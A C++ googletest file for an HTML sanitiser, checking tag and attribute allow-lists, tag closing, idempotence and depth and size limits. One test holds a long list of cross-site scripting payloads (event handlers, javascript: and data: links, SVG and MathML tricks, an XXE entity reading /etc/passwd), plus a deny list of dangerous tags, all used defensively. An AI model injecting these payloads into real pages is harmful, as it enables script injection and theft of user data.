#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "support/repeated.hpp"
#include "util/html.hpp"
#include "util/html_gate.hpp"
#include "util/text.hpp"

namespace desk {
namespace {

using test::repeated;
using testing::HasSubstr;
using testing::Not;

constexpr std::size_t kMegabyte = 1024 * 1024;

TEST(SanitiseHtml, KeepsTheStructureOfAText) {
    for (const char* html :
         {"<p>Hello <b>bold</b> <em>em</em><br>next</p>", "<h1>a</h1><h6>b</h6><hr>",
          "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>", "<blockquote><p>q</p></blockquote>",
          "<table><caption>t</caption><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr>"
          "</tbody></table>",
          "<pre><code>x &lt; y\n  z</code></pre>", "<dl><dt>a</dt><dd>b</dd></dl>", "a &amp; b",
          "<div><span>x</span></div>", "plain \"text\" isn't touched", "Đơn hàng 😀"}) {
        EXPECT_EQ(sanitise_html(html), html);
    }
}

TEST(SanitiseHtml, KeepsTheAttributesOfTheAllowList) {
    EXPECT_EQ(sanitise_html("<a href=\"https://x.example/?a=1&amp;b=2\" title=\"T\" class=c>y</a>"),
              "<a title=\"T\" href=\"https://x.example/?a=1&amp;b=2\" rel=\"nofollow noopener "
              "noreferrer\">y</a>");
    EXPECT_EQ(sanitise_html("<IMG SRC=https://x.example/i.png ALT='a \"b\"' WIDTH=10 height=20px>"),
              "<img src=\"https://x.example/i.png\" alt=\"a &quot;b&quot;\" width=\"10\">");
    EXPECT_EQ(sanitise_html("<p dir=RTL style=color:red id=x>y</p>"), "<p dir=\"rtl\">y</p>");
    EXPECT_EQ(sanitise_html("<ol start=3><li>x</ol>"), "<ol start=\"3\"><li>x</li></ol>");
    EXPECT_EQ(
        sanitise_html("<table><tr><td colspan=99999 rowspan=2 align=center bgcolor=red>x</table>"),
        "<table><tbody><tr><td colspan=\"100\" rowspan=\"2\" align=\"center\">x</td></tr></tbody>"
        "</table>");
}

TEST(SanitiseHtml, ClosesWhatIsOpen) {
    EXPECT_EQ(sanitise_html("<p>a<p>b"), "<p>a</p><p>b</p>");
    EXPECT_EQ(sanitise_html("<b><i>x</b>y</i>z"), "<b><i>x</i></b>yz");
    EXPECT_EQ(sanitise_html("</div></p>x</b>"), "x");
    EXPECT_EQ(sanitise_html("<ul><li>a<li>b</ul>"), "<ul><li>a</li><li>b</li></ul>");
    EXPECT_EQ(sanitise_html("<table><tr><td>a<td>b<tr><td>c</table>d"),
              "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>d");
    EXPECT_EQ(sanitise_html("<table><tr><td><b>x</td><td>y</b></td></tr></table>z"),
              "<table><tbody><tr><td><b>x</b></td><td>y</td></tr></tbody></table>z");
    EXPECT_EQ(sanitise_html("<td>no</td><td>table</td>"), "\nno\ntable");
    EXPECT_EQ(sanitise_html("<p>a<table><tr><td><p>b</table>c"),
              "<p>a</p><table><tbody><tr><td><p>b</p></td></tr></tbody></table>c");
}

TEST(SanitiseHtml, TakesTheTagsOfStrangersAndKeepsTheirText) {
    EXPECT_EQ(sanitise_html("<html><head><meta charset=x></head><body bgcolor=red>a</body></html>"),
              "a");
    EXPECT_EQ(sanitise_html("<font color=red>a</font><o:p>b</o:p><blink>c</blink>"), "abc");
    EXPECT_EQ(sanitise_html("<section>a</section><strike>b</strike>"), "<div>a</div><s>b</s>");
    EXPECT_EQ(sanitise_html("<form action=x><input name=y><button>go</button></form>"),
              "<div>go</div>");
}

/// The values of an attribute of one tag, and the tag without any values.
std::string take_values(std::string tag, std::string_view attribute,
                        std::vector<std::string>& values) {
    std::string bare;
    for (std::size_t at = 0; at < tag.size();) {
        const std::size_t open = tag.find('"', at);
        bare += tag.substr(at, open - at);
        if (open == std::string::npos) break;
        const std::size_t end = tag.find('"', open + 1);
        if (end == std::string::npos) return "<script: a quote without an end";
        const std::string name = ' ' + std::string(attribute) + '=';
        if (tag.substr(0, open).ends_with(name))
            values.push_back(tag.substr(open + 1, end - open - 1));
        at = end + 1;
    }
    return bare;
}

/// Nothing that runs, loads or frames: judged on the tags that a browser would see.
void expect_harmless(const std::string& html, std::string_view payload) {
    for (std::size_t at = html.find('<'); at != std::string::npos; at = html.find('<', at + 1)) {
        const std::size_t end = html.find('>', at);
        ASSERT_NE(end, std::string::npos) << payload << "\n" << html;
        std::vector<std::string> links;
        std::vector<std::string> images;
        const std::string tag = ascii_lower(html.substr(at, end - at));
        take_values(tag, "src", images);
        const std::string bare = take_values(tag, "href", links);
        for (const char* bad :
             {"<script",    "<style",    "<iframe", "<object", "<embed",    "<svg",   "<math",
              "<form",      "<input",    "<button", "<link",   "<meta",     "<base",  "<template",
              "<textarea",  "<noscript", "<video",  "<audio",  "<frame",    "<!",     "<?",
              "<plaintext", "<xmp",      "<select", " on",     "style=",    "srcdoc", "srcset",
              "action=",    "xlink",     " id=",    " name=",  "background"}) {
            EXPECT_EQ(bare.find(bad), std::string::npos) << bad << " in " << payload << "\n"
                                                         << html;
        }
        for (const std::string& link : links) {
            EXPECT_TRUE(link.starts_with("https://") || link.starts_with("mailto:")) << payload;
        }
        for (const std::string& image : images)
            EXPECT_TRUE(image.starts_with("https://")) << payload;
    }
}

TEST(SanitiseHtml, DisarmsEveryPayload) {
    const char* const payloads[] = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script/src=//evil.example>",
        "<script>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script\x0B>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://x.example/i onerror=alert(1)>",
        "<img/src=\"https://x.example/i\"onerror=alert(1)>",
        "<img src=https://x.example/i\nonerror\n=\nalert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src='https://x.example/\" onerror=\"alert(1)'>",
        "<img src=\"https://x.example/&quot; onerror=&quot;alert(1)\">",
        "<img src=`javascript:alert(1)`>",
        "<img src=javascript:alert(1)>",
        "<img srcset='https://x 1x' src=data:text/html,x>",
        "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)//",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"\x01javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#10;ascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"javascript://https://x.example/%0aalert(1)\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"https:\\\\evil\" onclick=alert(1)>x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=x onmouseover=alert(1)>x</a>",
        "<a href=\"https://x.example/\" \"onclick=alert(1)\">x</a>",
        "<a href='https://x.example/&apos; onclick=&apos;alert(1)'>x</a>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><input type=submit><button "
        "formaction=javascript:alert(1)>x",
        "<isindex action=javascript:alert(1) type=image>",
        "<base href=javascript:alert(1)//>",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<body onload=alert(1)>x",
        "<details open ontoggle=alert(1)>x",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea "
        "onfocus=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<plaintext><script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?><? echo('<scr)'; ?>",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\"><x>&x;</x>",
        "<a title=\"<img src=x onerror=alert(1)>\" href=https://x.example>x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&<x>lt;script&gt;alert(1)",
        "\xC0\xBCscript\xC0\xBE"
        "alert(1)",
        "<\xEF\xBC\x9Cscript>alert(1)",
        "<p/onclick=alert(1)/title=x>y",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
        "<table><tr><td><form id=x><input form=x></form></table>",
        "<b id=\"getElementById\" name=\"cookie\">clobber</b>",
        "</p onclick=alert(1)><//script>",
        "<a href=\"https://x.example/\"><a href=\"javascript:alert(1)\">y</a></a>",
        "<image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
        "<dialog open onclose=alert(1)>x<dir onclick=alert(1)>y",
        "<img src=https://x.example/ alt=\"</img><script>alert(1)</script>\">",
    };
    for (const char* payload : payloads) {
        const std::string html = sanitise_html(payload);
        expect_harmless(html, payload);
        EXPECT_EQ(sanitise_html(html), html) << payload;
        expect_harmless(sanitise_html(std::string("<table><tr><td>") + payload), payload);
        expect_harmless(sanitise_html(std::string("<a title='") + payload), payload);
    }
}

TEST(SanitiseHtml, RemovesNulsAndBadBytes) {
    EXPECT_EQ(sanitise_html(std::string_view("<scr\0ipt>x</scr\0ipt>", 20)), "x");
    EXPECT_EQ(sanitise_html(std::string_view("a\0\xFF", 3)), "a\xEF\xBF\xBD\xEF\xBF\xBD");
}

TEST(SanitiseHtml, RemovesControlCharactersThatEntitiesBringIn) {
    EXPECT_EQ(sanitise_html("a&#1;b&#x7;c&#0;d"),
              "a\xEF\xBF\xBD"
              "b\xEF\xBF\xBD"
              "c\xEF\xBF\xBD"
              "d");
    EXPECT_EQ(sanitise_html("<b title='x&#1;&#13;&#10;y'>z</b>&#13;&#12;&#9;"), "<b>z</b>  \t");
    EXPECT_EQ(sanitise_html("<a title='x&#1;y'>z</a>"), "<a title=\"x\xEF\xBF\xBDy\">z</a>");
}

TEST(SanitiseHtml, ReadsItsOwnOutputTheSameWay) {
    for (const char* html :
         {"<pre>\n\nx</pre>", "<pre>\nx</pre>", "<p>a<div>b</div>c</p>", "a&amp;lt;b",
          "<table>x<tr>y<td>z</table>", "<ul>x<li>y<p>z</ul>", "<h1><h2>x</h1>",
          "<a href=https://x>a<a href=https://y>b</a>", "<b><b><b><b>x</b>", "&nbsp;x",
          "&#1;&#13;x", "<p><table><tr><td></table>", "<dl><dd><dt><dd></dl>", "\r\na\rb",
          "<pre><img alt='&#10;x'></pre>", "<pre><img>\nx</pre>",
          "<h1><b><div><h2><h3>x</h3></h2>y</div></b></h1>"}) {
        const std::string once = sanitise_html(html);
        EXPECT_EQ(sanitise_html(once), once) << html;
    }
}

// The parser opens the <tbody> and the <tr> itself: two levels more than are written.
TEST(SanitiseHtml, ReadsItsOwnOutputTheSameWayAtItsBounds) {
    for (const std::string& html :
         {repeated("<div>", 98) + "<table><td>x", repeated("<div>", 96) + "<table><tr><td><b>x",
          repeated("<table><td>", 60) + "x", repeated("<table><tr><td>x</table>", 7000),
          repeated("<table><td>x</table>", 7000)}) {
        const std::string once = sanitise_html(html);
        EXPECT_TRUE(sanitise_html(once) == once) << html.substr(0, 40);
    }
}

TEST(SanitiseHtml, ReadsLongValuesOfItsOwnTheSameWay) {
    for (const std::string& html :
         {"<a title=\"" + repeated("'", 1000) + "\">x</a>",
          "<a title=\"" + repeated("&#1;", 400) + "\">x</a>",
          "<a href=\"https://x.example/" + repeated("&", 2000) + "\">x</a>",
          "<img src=https://x.example alt=\"" + repeated("\t<", 500) + "\">"}) {
        const std::string once = sanitise_html(html);
        EXPECT_EQ(sanitise_html(once), once);
    }
}

TEST(SanitiseHtml, KeepsTheTextAndDropsTheMarkUpPastItsDepth) {
    const std::string html =
        sanitise_html(repeated("<div>", 100'000) + "deep" + repeated("</div>", 100'000));
    EXPECT_THAT(html, HasSubstr("deep"));
    EXPECT_THAT(html, HasSubstr("<div><div>"));
    EXPECT_THAT(html, Not(HasSubstr(repeated("<div>", 101))));
}

TEST(SanitiseHtml, KeepsTheTextAndDropsTheMarkUpPastItsNumberOfElements) {
    const std::string html = sanitise_html(repeated("<p>x</p>", 60'000));
    std::size_t paragraphs = 0;
    for (std::size_t at = html.find("<p>"); at != std::string::npos; at = html.find("<p>", at + 1))
        ++paragraphs;
    EXPECT_EQ(paragraphs, 20'000U);
    EXPECT_EQ(std::count(html.begin(), html.end(), 'x'), 60'000);
}

TEST(SanitiseHtml, BoundsAttributesAndColumns) {
    const std::string html =
        sanitise_html("<a " + repeated("x=1 ", 40) + "href=https://x.example>y</a>");
    EXPECT_EQ(html, "<a>y</a>");
    EXPECT_EQ(sanitise_html("<a href=\"https://x.example/" + std::string(3000, 'x') + "\">y</a>"),
              "<a>y</a>");
    const std::string table =
        sanitise_html("<table><tr>" + repeated("<td>x</td>", 1000) + "</table>");
    std::size_t cells = 0;
    for (std::size_t at = table.find("<td>"); at != std::string::npos;
         at = table.find("<td>", at + 1))
        ++cells;
    EXPECT_EQ(cells, 100U);
    EXPECT_EQ(std::count(table.begin(), table.end(), 'x'), 1000);
}

// Each of these took the parser a stack overflow, or time or memory with the square of its size,
// where nothing stood before it.
TEST(SanitiseHtml, SurvivesAQuarterOfAMegabyteOfAnything) {
    for (const char* piece : {"<div>",
                              "<b>",
                              "<p>",
                              "<li>",
                              "<a href=https://x.example>",
                              "<table>",
                              "<table><tr><td>",
                              "<table><b>x",
                              "<b></p>",
                              "<!--",
                              "<![",
                              "</p>",
                              "</div><b>",
                              "<x \"",
                              "<x '",
                              "<svg>",
                              "<svg ",
                              "<b><p></b>",
                              "<i><table>x",
                              "<select>",
                              "<script",
                              "<style>",
                              "<a title=\"",
                              "&amp;",
                              "&",
                              "<",
                              "</",
                              "<!",
                              "<?",
                              ">",
                              "<font color=1><p>",
                              "<nobr><div>",
                              "<dd><dt>",
                              "<td>x</td>",
                              "<h1>",
                              "<math><mi>",
                              "<template>",
                              "<button><p>",
                              "<pre>\n"}) {
        const std::string html =
            sanitise_html(repeated(piece, kMegabyte / 4 / std::string_view(piece).size()));
        EXPECT_LT(html.size(), 2 * kMegabyte) << piece;
    }
    std::string distinct;  // different links and headings that stay open
    for (int i = 0; distinct.size() < kMegabyte / 2; ++i) {
        distinct += "<b class=" + std::to_string(i) + "><i id=" + std::to_string(i) + "><p>";
    }
    EXPECT_LT(sanitise_html(distinct).size(), 6 * kMegabyte);
}

TEST(SanitiseHtml, ParsesNothingBeyondItsLimit) {
    const std::string html = repeated("<p>x", 9 * kMegabyte / 4);
    EXPECT_EQ(sanitise_html(html).substr(0, 9), "&lt;p&gt;");
}

TEST(TameHtml, WritesEveryTagInFull) {
    EXPECT_EQ(tame_html("<P Title=x onclick=y>a<BR/>b"), "<p title=\"x\">a<br>b</p>");
    EXPECT_EQ(tame_html("<b title='\"'>x"), "<b title=\"&quot;\">x</b>");
    EXPECT_EQ(tame_html("a<b"), "a&lt;b");
    EXPECT_EQ(tame_html("1 < 2 <3 <"), "1 &lt; 2 &lt;3 &lt;");
    EXPECT_EQ(tame_html("<svg/>a<svg>b</svg>c<svg>d"), "acd");
    EXPECT_EQ(tame_html("<script>a</scripty></script >b"), "b");
}

TEST(TameHtml, WritesThePartsOfATableThatPeopleLeaveOut) {
    EXPECT_EQ(tame_html("<table><td>a<td>b<tr><th>c</table>"),
              "<table><tbody><tr><td>a</td><td>b</td></tr><tr><th>c</th></tr></tbody></table>");
    EXPECT_EQ(
        tame_html("<table><thead><td>a<tfoot><tr><td>b</table>"),
        "<table><thead><tr><td>a</td></tr></thead><tfoot><tr><td>b</td></tr></tfoot></table>");
    EXPECT_EQ(tame_html(repeated("<div>", 97) + "<table><td>x"),
              repeated("<div>", 97) + "<table>\nx</table>" + repeated("</div>", 97));
}

TEST(TameHtml, EndsAHeadingWhereTheNextBegins) {
    EXPECT_EQ(tame_html("<h1>a<h2>b</h2>c</h1>"), "<h1>a</h1><h2>b</h2>c");
    EXPECT_EQ(tame_html("<h1><div><h2>a</h2></div></h1>"), "<h1><div><h2>a</h2></div></h1>");
}

}  // namespace
}  // namespace desk
